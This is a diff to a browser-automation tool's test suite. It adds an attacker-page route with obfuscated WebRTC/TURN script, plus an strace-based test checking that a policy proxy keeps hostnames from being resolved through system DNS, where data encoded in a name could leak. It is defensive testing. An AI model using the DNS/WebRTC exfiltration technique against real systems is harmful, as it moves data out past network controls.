@@ -160,6 +160,18 @@ fetch('https://{f.host}:{f.port}/tls').catch(() => {{}});
   document.title = 'RTC ready';
 }})();
 </script>""")
+        if path.startswith("/webrtc-named?"):  # a TURN server by a name (over TCP: through the proxy), spelt
+            backwards = path.split("?", 1)[1]  # backwards in the address, so that only a use of the name shows it
+            return self._page(f"""<title>RTC</title><script>
+(async () => {{
+  const name = '{backwards}'.split('').reverse().join('');
+  const pc = new RTCPeerConnection({{iceServers: [{{urls: `turn:${{name}}:3478?transport=tcp`, username: 'u',
+                                                   credential: 'c'}}]}});
+  pc.createDataChannel('x');
+  await pc.setLocalDescription(await pc.createOffer());
+  document.title = 'RTC ready';
+}})();
+</script>""")
         if path == "/ok":
             return self._page("<title>Allowed</title>")
         return self._page("<title>Not found</title>", 404)
@@ -287,6 +299,42 @@ def test_webrtc_sends_nothing_to_a_forbidden_host(guarded_on_each, attacker, for
     time.sleep(2.0)  # ICE gathering sends its STUN and TURN requests in this time when it can
     assert c.tool("tabs", sessionId=sid)["tabs"][0]["title"] == "RTC ready"  # WebRTC did run
     assert forbidden.reached == 0, (forbidden.connections, forbidden.datagrams)
+
+
+def test_a_forbidden_name_is_not_looked_up_in_the_dns_past_the_proxy(guarded_on_each, attacker, forbidden, tmp_path):
+    """The policy proxy resolves each name it allows, and only those; a name the browser resolves itself goes to
+    the system's DNS servers whatever the policy says, and on to the name's own (an attacker's) nameserver: data
+    spelled as a name leaves. WebRTC resolved a TURN server's name so (both browsers), then sent its CONNECT to
+    the proxy, which refused it. Seen in the browser's own system calls (strace), as nothing else sees them."""
+    import shutil
+    import subprocess
+    import uuid
+
+    from mcpbrowser.process_tree import child_pids, cmdline, descendants
+
+    if not shutil.which("strace"):
+        pytest.skip("strace is not installed")
+    c, sid = guarded_on_each
+    label = f"leak{uuid.uuid4().hex[:12]}"
+    browsers = [pid for server in child_pids("mcpbrowser") for pid in descendants(server) if "chrom" in cmdline(pid)]
+    traces = [subprocess.Popen(["strace", "-f", "-qq", "-s", "512", "-e", "trace=sendto,sendmsg,sendmmsg",
+                                "-o", str(tmp_path / f"trace.{pid}"), "-p", str(pid)], stderr=subprocess.PIPE)
+              for pid in browsers]
+    try:
+        time.sleep(1.0)  # strace attaches
+        if any(t.poll() is not None for t in traces):
+            pytest.skip(f"strace cannot attach here: {traces[0].stderr.read().decode()[:200]}")
+        c.tool("navigate", sessionId=sid, url=attacker.url("/webrtc-named?" + f"{label}.example.org"[::-1]))
+        time.sleep(2.0)  # ICE gathering
+        assert c.tool("tabs", sessionId=sid)["tabs"][0]["title"] == "RTC ready"
+    finally:
+        for t in traces:
+            t.terminate()
+            t.wait()
+    sent = [line for path in tmp_path.glob("trace.*") for line in path.read_text(errors="replace").splitlines()
+            if label in line]
+    assert any(f"CONNECT {label}.example.org" in line for line in sent), sent  # tried, through the proxy
+    assert not [line for line in sent if "CONNECT " not in line], sent  # and nothing else named it
 
 
 @pytest.mark.parametrize("spelling", ["[::ffff:127.0.0.2]", "[::ffff:7f00:2]", "2130706434", "0x7f.0.0.2",
